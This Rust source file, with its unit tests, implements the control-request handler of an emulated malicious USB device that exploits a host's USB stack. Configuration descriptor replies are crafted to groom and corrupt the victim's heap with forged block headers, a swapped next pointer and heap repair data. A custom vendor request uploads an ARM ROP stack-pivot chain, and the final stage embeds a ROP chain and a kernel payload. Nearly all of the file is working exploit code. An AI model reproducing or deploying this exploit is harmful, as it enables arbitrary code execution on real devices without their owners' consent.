//! Answers to the host's control requests.
//!
//! The [`Responder`] is a pure function of the session and the request:
//! it fills the EP0 buffer and tells the engine what to do with it. State
//! changes are left to the engine and the state machine.

use crate::blueprint::{self, Probe};
use crate::ch9::{
    ConfigDescriptor, ControlRequest, DeviceDescriptor, Speed, USB_CLASS_PER_INTERFACE,
    USB_CONFIG_ATT_ONE, USB_CONFIG_ATT_SELFPOWER, USB_DT_CONFIG, USB_DT_CONFIG_SIZE,
    USB_DT_DEVICE, USB_DT_DEVICE_SIZE, USB_DT_STRING, USB_REQ_GET_DESCRIPTOR,
    USB_REQ_SET_CONFIGURATION,
};
use crate::device::{Identity, Session};
use crate::payload::Payloads;
use crate::rop::{stackpivot_rop, USB_REQ_CUSTOM};
use bytes::BufMut;
use std::cmp;

pub const VENDOR_ID: u16 = 0xabcd;
pub const PRODUCT_ID: u16 = 0x1234;

/// Size of the EP0 buffer; matches the victim's `pEp0DmaBuf`.
pub const EP0_BUFFER_SIZE: usize = 0x10000;

/// Length reported when a configuration read does not have the expected
/// size. Always clamped to `wLength` before anything goes on the wire.
pub const MISMATCH_SENTINEL: usize = 0xffff;

/// What the engine has to do after a request was handled.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Reply {
    /// Send the first `n` bytes of the buffer as the data stage.
    Data(usize),
    /// Send an empty data stage.
    ZeroLength,
    /// The host configured the device; no data stage.
    Configure,
    /// Stall the control endpoint.
    Stall,
}

/// Outcome of a configuration descriptor read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ConfigReply {
    /// First read: only the header, advertising the blob size.
    Probe { advertised: u16 },
    /// Follow-up read: the full blob.
    Payload(usize),
    /// Follow-up read with the wrong length: the header advertises the
    /// expected size and the reply carries [`MISMATCH_SENTINEL`].
    Mismatch { advertised: u16 },
    /// Nothing to inject for this state or index.
    HeaderOnly,
    /// A payload needed for this link speed is missing.
    Unavailable,
}

impl ConfigReply {
    /// Length of the reply before clamping to `wLength`.
    pub fn length(self) -> Option<usize> {
        match self {
            ConfigReply::Probe { .. } | ConfigReply::HeaderOnly => Some(USB_DT_CONFIG_SIZE),
            ConfigReply::Payload(size) => Some(size),
            ConfigReply::Mismatch { .. } => Some(MISMATCH_SENTINEL),
            ConfigReply::Unavailable => None,
        }
    }
}

pub struct Responder {
    max_packet_size: u8,
    payloads: Payloads,
}

impl Responder {
    /// Creates a responder for a control endpoint with `max_packet_size`.
    pub fn bind(max_packet_size: u8, payloads: Payloads) -> Self {
        Responder {
            max_packet_size,
            payloads,
        }
    }

    pub fn max_packet_size(&self) -> u8 {
        self.max_packet_size
    }

    /// Handles `request` in the current session, writing any data into `buf`.
    ///
    /// `buf` must hold [`EP0_BUFFER_SIZE`] bytes.
    pub fn respond(&self, session: &Session, request: &ControlRequest, buf: &mut [u8]) -> Reply {
        log::debug!(
            "setup: bRequest {:#x} bRequestType {:#x} wValue {:#x} wIndex {:#x} wLength {:#x}",
            request.request,
            request.request_type,
            request.value,
            request.index,
            request.length
        );

        let identity = session.state().identity();
        let length = request.length as usize;

        match request.request {
            USB_REQ_GET_DESCRIPTOR => match request.descriptor_type() {
                USB_DT_DEVICE => {
                    self.device_descriptor(identity).encode(&mut buf[..USB_DT_DEVICE_SIZE]);
                    Reply::Data(cmp::min(length, USB_DT_DEVICE_SIZE))
                }
                USB_DT_CONFIG => {
                    let reply = self.config_descriptor(
                        identity,
                        request.index,
                        request.length,
                        session.speed,
                        buf,
                    );
                    match reply.length() {
                        Some(reply_length) => Reply::Data(cmp::min(length, reply_length)),
                        None => {
                            log::warn!("no heap repair data for {:?} speed", session.speed);
                            Reply::Stall
                        }
                    }
                }
                // no strings, answer with an empty data stage
                USB_DT_STRING => Reply::ZeroLength,
                kind => {
                    log::warn!("GET_DESCRIPTOR: unknown descriptor type {:#x}", kind);
                    Reply::Stall
                }
            },
            USB_REQ_SET_CONFIGURATION => {
                if request.request_type != 0 {
                    log::warn!("SET_CONFIGURATION: invalid request type");
                    return Reply::Stall;
                }
                Reply::Configure
            }
            USB_REQ_CUSTOM => Reply::Data(self.stackpivot(length, buf)),
            other => {
                log::warn!("unknown request {:#x}", other);
                Reply::Stall
            }
        }
    }

    /// The device descriptor of `identity`.
    pub fn device_descriptor(&self, identity: Option<Identity>) -> DeviceDescriptor {
        DeviceDescriptor {
            bcd_usb: 0x200,
            device_class: USB_CLASS_PER_INTERFACE,
            device_sub_class: 0,
            device_protocol: 0,
            max_packet_size0: self.max_packet_size,
            vendor_id: VENDOR_ID,
            product_id: PRODUCT_ID,
            bcd_device: 0x100,
            manufacturer: 0,
            product: 0,
            serial_number: 0,
            num_configurations: identity.map_or(0, Identity::configuration_count),
        }
    }

    /// Answers a read of configuration `index` with `length` bytes.
    ///
    /// `buf[..length]` is zeroed and starts with the configuration header
    /// in every case.
    pub fn config_descriptor(
        &self,
        identity: Option<Identity>,
        index: u16,
        length: u16,
        speed: Speed,
        buf: &mut [u8],
    ) -> ConfigReply {
        buf[..length as usize].fill(0);
        ConfigDescriptor {
            total_length: USB_DT_CONFIG_SIZE as u16,
            num_interfaces: 0,
            configuration_value: 0,
            configuration: 0,
            attributes: USB_CONFIG_ATT_ONE | USB_CONFIG_ATT_SELFPOWER,
            max_power: 50,
        }
        .encode(&mut buf[..USB_DT_CONFIG_SIZE]);

        let table = match identity {
            Some(identity) => blueprint::table(identity),
            None => return ConfigReply::HeaderOnly,
        };
        let blueprint = match table.get(index as usize) {
            Some(blueprint) => blueprint,
            None => return ConfigReply::HeaderOnly,
        };

        let size = blueprint.size(speed);
        let advertised = size as u16;
        let probe = blueprint.probe == Probe::Header && length as usize == USB_DT_CONFIG_SIZE;

        if probe || length as usize != size {
            ConfigDescriptor::set_total_length(buf, advertised);
            return if probe {
                ConfigReply::Probe { advertised }
            } else {
                ConfigReply::Mismatch { advertised }
            };
        }

        match blueprint.render(table, speed, &self.payloads, buf) {
            Some(size) => ConfigReply::Payload(size),
            None => ConfigReply::Unavailable,
        }
    }

    /// Writes the stack pivot chain after a 4 byte gap.
    fn stackpivot(&self, length: usize, buf: &mut [u8]) -> usize {
        buf[..length].fill(0);

        let rop = stackpivot_rop();
        let mut out = &mut buf[4..4 + rop.len() * 4];
        for word in rop.iter() {
            out.put_u32(*word);
        }

        length
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::blueprint::{HeapGeometry, DEVICE0, DEVICE1, DEVICE2};
    use crate::ch9::{ControlRequest, USB_DIR_IN, USB_DIR_OUT};
    use crate::device::{DeviceStateMachine, State};
    use crate::layout::HeapBlockHeader;
    use crate::rop::{ARM_KERNEL_OFFSET, CUSTOM_EVENT_OFFSET, FINAL_ROP_OFFSET};
    use bytes::Bytes;

    const KERNEL: &[u8] = b"\xe1\x2f\xff\x1e kernel";
    const REPAIR: &[u8] = b"repair data";

    fn responder() -> Responder {
        let payloads =
            Payloads::new(Bytes::from_static(KERNEL), Bytes::from_static(REPAIR)).unwrap();
        Responder::bind(64, payloads)
    }

    fn session_in(state: State) -> Session {
        let mut session = Session::new(Speed::Full);
        let mut machine = DeviceStateMachine::new();
        while machine.state() != state {
            match machine.state() {
                State::Init => {
                    machine.attach();
                }
                State::Device0Connected | State::Device1Connected => {
                    machine.configured();
                }
                _ => {
                    machine.timer_expired();
                }
            }
        }
        session.machine = machine;
        session
    }

    fn buffer() -> Vec<u8> {
        vec![0xaa; EP0_BUFFER_SIZE]
    }

    fn get_config(index: u16, length: u16) -> ControlRequest {
        ControlRequest::get_descriptor(USB_DT_CONFIG, 0, index, length)
    }

    fn all_tables() -> [(Identity, &'static [blueprint::Blueprint]); 3] {
        [
            (Identity::Device0, &DEVICE0[..]),
            (Identity::Device1, &DEVICE1[..]),
            (Identity::Device2, &DEVICE2[..]),
        ]
    }

    #[test]
    fn test_device_descriptor_per_identity() {
        let responder = responder();
        let mut buf = buffer();
        let request = ControlRequest::get_descriptor(USB_DT_DEVICE, 0, 0, 0x40);

        for (state, count) in [
            (State::Device0Connected, 7),
            (State::Device1Connected, 1),
            (State::Device2Connected, 3),
            (State::Device0Ready, 0),
        ] {
            let reply = responder.respond(&session_in(state), &request, &mut buf);
            assert_eq!(reply, Reply::Data(USB_DT_DEVICE_SIZE));
            assert_eq!(buf[17], count);
        }

        assert_eq!(
            &buf[..8],
            &[0x12, 0x01, 0x00, 0x02, 0x00, 0x00, 0x00, 0x40]
        );
        assert_eq!(&buf[8..12], &[0xcd, 0xab, 0x34, 0x12]);
    }

    #[test]
    fn test_device_descriptor_short_read() {
        let mut buf = buffer();
        let request = ControlRequest::get_descriptor(USB_DT_DEVICE, 0, 0, 8);
        let reply = responder().respond(&session_in(State::Device0Connected), &request, &mut buf);
        assert_eq!(reply, Reply::Data(8));
    }

    #[test]
    fn test_probe_advertises_follow_up_length() {
        let responder = responder();
        for (identity, table) in all_tables() {
            for (index, blueprint) in table.iter().enumerate() {
                let mut buf = buffer();
                let size = blueprint.size(Speed::Full);
                let probe_length = USB_DT_CONFIG_SIZE as u16;
                let reply = responder.config_descriptor(
                    Some(identity),
                    index as u16,
                    probe_length,
                    Speed::Full,
                    &mut buf,
                );
                let advertised = ConfigDescriptor::total_length_of(&buf);
                assert_eq!(advertised as usize, size, "{:?} {}", identity, index);
                assert_eq!(
                    cmp::min(probe_length as usize, reply.length().unwrap()),
                    USB_DT_CONFIG_SIZE
                );
            }
        }
    }

    #[test]
    fn test_follow_up_returns_exact_length() {
        let responder = responder();
        for (identity, table) in all_tables() {
            for (index, blueprint) in table.iter().enumerate() {
                let mut buf = buffer();
                let size = blueprint.size(Speed::Full);
                let reply = responder.config_descriptor(
                    Some(identity),
                    index as u16,
                    size as u16,
                    Speed::Full,
                    &mut buf,
                );
                assert_eq!(reply, ConfigReply::Payload(size), "{:?} {}", identity, index);
                assert_eq!(&buf[..2], &[0x09, 0x02]);
            }
        }
    }

    #[test]
    fn test_mismatch_returns_sentinel() {
        let responder = responder();
        for (identity, table) in all_tables() {
            for (index, blueprint) in table.iter().enumerate() {
                let size = blueprint.size(Speed::Full);
                for length in [size as u16 - 1, size as u16 + 1, 0x40 + 0x80] {
                    if length as usize == size {
                        continue;
                    }
                    let mut buf = buffer();
                    let reply = responder.config_descriptor(
                        Some(identity),
                        index as u16,
                        length,
                        Speed::Full,
                        &mut buf,
                    );
                    assert_eq!(
                        reply,
                        ConfigReply::Mismatch {
                            advertised: size as u16
                        }
                    );
                    assert_eq!(reply.length(), Some(MISMATCH_SENTINEL));
                    // header, then nothing but zeroes
                    assert!(buf[USB_DT_CONFIG_SIZE..length as usize].iter().all(|&b| b == 0));
                }
            }
        }
    }

    #[test]
    fn test_first_configuration_off_size_read() {
        let responder = responder();
        for (state, size) in [
            (State::Device0Connected, 0xaa20),
            (State::Device1Connected, 0x10),
            (State::Device2Connected, 0xaa40),
        ] {
            let mut buf = buffer();
            let reply = responder.respond(&session_in(state), &get_config(0, 0x20), &mut buf);
            assert_eq!(reply, Reply::Data(0x20), "{:?}", state);
            assert_eq!(ConfigDescriptor::total_length_of(&buf), size);
            // no fill bytes or injections leak out
            assert!(buf[USB_DT_CONFIG_SIZE..0x20].iter().all(|&b| b == 0));
        }
    }

    #[test]
    fn test_mismatch_is_clamped_on_the_wire() {
        let mut buf = buffer();
        let reply = responder().respond(
            &session_in(State::Device0Connected),
            &get_config(1, 0xaa20),
            &mut buf,
        );
        assert_eq!(reply, Reply::Data(0xaa20));
        assert_eq!(ConfigDescriptor::total_length_of(&buf), 0xca0);
    }

    #[test]
    fn test_device0_first_configuration() {
        let responder = responder();
        let session = session_in(State::Device0Connected);
        let mut buf = buffer();

        let reply = responder.respond(&session, &get_config(0, 9), &mut buf);
        assert_eq!(reply, Reply::Data(9));
        assert_eq!(ConfigDescriptor::total_length_of(&buf), 0xaa20);

        let reply = responder.respond(&session, &get_config(0, 0xaa20), &mut buf);
        assert_eq!(reply, Reply::Data(0xaa20));
        assert_eq!(
            ConfigDescriptor::total_length_of(&buf) as usize,
            0xaa20 + 0x40 + 0x40 + 0x40 + 0xc0 + 8 * HeapBlockHeader::SIZE
        );
        assert!(buf[9..0xaa20 - 4].iter().all(|&b| b == 1));
        assert_eq!(&buf[0xaa20 - 4..0xaa20], &[0x24, 0x05, 0x01, 0x01]);
    }

    #[test]
    fn test_device0_golden_tails() {
        let responder = responder();
        let tail = |index: u16, size: usize| {
            let mut buf = buffer();
            responder.config_descriptor(
                Some(Identity::Device0),
                index,
                size as u16,
                Speed::Full,
                &mut buf,
            );
            (
                ConfigDescriptor::total_length_of(&buf),
                buf[9],
                buf[size - 4..size].to_vec(),
            )
        };

        assert_eq!(tail(1, 0xca0), (9, 0, vec![0, 0, 0, 0]));
        assert_eq!(tail(2, 0x40), (0x40, 1, vec![1, 1, 1, 0x21]));
        assert_eq!(tail(3, 0x40), (0x40, 1, vec![0x24, 5, 1, 1]));
        assert_eq!(tail(4, 0x40), (0x40, 1, vec![1, 1, 1, 0x21]));
        assert_eq!(tail(5, 0xc0), (0xc0, 1, vec![4, 5, 1, 1]));
        assert_eq!(tail(6, 0x2380), (0x2380, 1, vec![1, 1, 1, 1]));
    }

    #[test]
    fn test_device1_swaps_next_pointer() {
        let responder = responder();
        let session = session_in(State::Device1Connected);
        let mut buf = buffer();

        let reply = responder.respond(&session, &get_config(0, 9), &mut buf);
        assert_eq!(reply, Reply::Data(9));
        assert_eq!(ConfigDescriptor::total_length_of(&buf), 0x10);

        let reply = responder.respond(&session, &get_config(0, 0x10), &mut buf);
        assert_eq!(reply, Reply::Data(0x10));
        assert_eq!(ConfigDescriptor::total_length_of(&buf), 0x56);
        assert_eq!(&buf[9..0x10], &[1, 1, 1, 1, 1, 1, 0x1a]);
    }

    #[test]
    fn test_device2_heap_block() {
        let mut buf = buffer();
        let reply = responder().config_descriptor(
            Some(Identity::Device2),
            1,
            0x8760,
            Speed::Full,
            &mut buf,
        );
        assert_eq!(reply, ConfigReply::Payload(0x8760));
        assert_eq!(ConfigDescriptor::total_length_of(&buf), 9);
        assert_eq!(
            &buf[0x5320..0x5330],
            &[
                0xba, 0xbe, 0x00, 0x00, 0x00, 0x10, 0x00, 0x00, 0x10, 0x2c, 0x05, 0x80, 0x00, 0x00,
                0x00, 0x00
            ]
        );
        assert!(buf[9..0x5320].iter().all(|&b| b == 0));
    }

    #[test]
    fn test_device2_final_stage() {
        let geometry = HeapGeometry::for_speed(Speed::Full);
        let size = geometry.final_descriptor_size();
        let mut buf = buffer();
        let reply = responder().config_descriptor(
            Some(Identity::Device2),
            2,
            size as u16,
            Speed::Full,
            &mut buf,
        );
        assert_eq!(reply, ConfigReply::Payload(0xa350));
        assert_eq!(ConfigDescriptor::total_length_of(&buf), 9);

        // final chain starts with pop {r0, r1, r4, pc}, big-endian
        assert_eq!(&buf[FINAL_ROP_OFFSET..FINAL_ROP_OFFSET + 4], &[0x10, 0x12, 0x3a, 0x9f]);
        assert_eq!(&buf[ARM_KERNEL_OFFSET..ARM_KERNEL_OFFSET + KERNEL.len()], KERNEL);

        let event = &buf[CUSTOM_EVENT_OFFSET..];
        assert_eq!(&event[0x04..0x08], &[0x10, 0x2b, 0x50, 0xb8]);
        assert_eq!(&event[0x0c..0x10], &[0x10, 0x2b, 0x50, 0xf0]);
        assert_eq!(&event[0x10..0x12], &[0x80, 0x30]);

        let repair = geometry.heap_repair_offset;
        assert_eq!(&buf[repair..repair + REPAIR.len()], REPAIR);

        let queue = geometry.ctrl_mgr_offset() + 0x18;
        assert_eq!(
            &buf[queue..queue + 12],
            &[0x00, 0x00, 0x00, 0x01, 0x10, 0x29, 0xf8, 0xe0, 0x10, 0x29, 0xf8, 0xe0]
        );
        assert!(buf[geometry.ctrl_mgr_offset()..queue].iter().all(|&b| b == 0));
        assert!(buf[queue + 12..size].iter().all(|&b| b == 0));
    }

    #[test]
    fn test_high_speed_without_repair_stalls() {
        let responder = responder();
        let mut session = session_in(State::Device2Connected);
        session.speed = Speed::High;
        let size = HeapGeometry::for_speed(Speed::High).final_descriptor_size();

        let mut buf = buffer();
        let reply = responder.respond(&session, &get_config(2, size as u16), &mut buf);
        assert_eq!(reply, Reply::Stall);
    }

    #[test]
    fn test_unknown_index_and_state_send_header() {
        let responder = responder();
        let mut buf = buffer();

        let reply = responder.respond(&session_in(State::Device1Connected), &get_config(5, 0x100), &mut buf);
        assert_eq!(reply, Reply::Data(9));
        assert_eq!(ConfigDescriptor::total_length_of(&buf), 9);

        let reply = responder.respond(&session_in(State::Device0Ready), &get_config(0, 0x100), &mut buf);
        assert_eq!(reply, Reply::Data(9));
    }

    #[test]
    fn test_vendor_request_uploads_stackpivot() {
        let responder = responder();
        let rop = stackpivot_rop();
        let length = (rop.len() * 4 + 4) as u16;
        let request = ControlRequest {
            request_type: USB_DIR_IN,
            request: USB_REQ_CUSTOM,
            value: 0,
            index: 0,
            length,
        };

        for state in [State::Init, State::Device0Connected, State::Device2Connected] {
            let mut buf = buffer();
            let reply = responder.respond(&session_in(state), &request, &mut buf);
            assert_eq!(reply, Reply::Data(length as usize));
            assert_eq!(&buf[..4], &[0, 0, 0, 0]);
            for (i, word) in rop.iter().enumerate() {
                assert_eq!(&buf[4 + i * 4..8 + i * 4], &word.to_be_bytes());
            }
        }
    }

    #[test]
    fn test_set_configuration() {
        let responder = responder();
        let mut buf = buffer();
        let session = session_in(State::Device0Connected);

        let reply = responder.respond(&session, &ControlRequest::set_configuration(1), &mut buf);
        assert_eq!(reply, Reply::Configure);

        let mut request = ControlRequest::set_configuration(1);
        request.request_type = USB_DIR_OUT | 0x01;
        assert_eq!(responder.respond(&session, &request, &mut buf), Reply::Stall);
    }

    #[test]
    fn test_string_and_unknown_requests() {
        let responder = responder();
        let mut buf = buffer();
        let session = session_in(State::Device0Connected);

        let string = ControlRequest::get_descriptor(USB_DT_STRING, 0, 0x409, 0xff);
        assert_eq!(responder.respond(&session, &string, &mut buf), Reply::ZeroLength);

        let bos = ControlRequest::get_descriptor(0x0f, 0, 0, 5);
        assert_eq!(responder.respond(&session, &bos, &mut buf), Reply::Stall);

        let get_status = ControlRequest {
            request_type: USB_DIR_IN,
            request: 0x00,
            value: 0,
            index: 0,
            length: 2,
        };
        assert_eq!(responder.respond(&session, &get_status, &mut buf), Reply::Stall);
    }
}
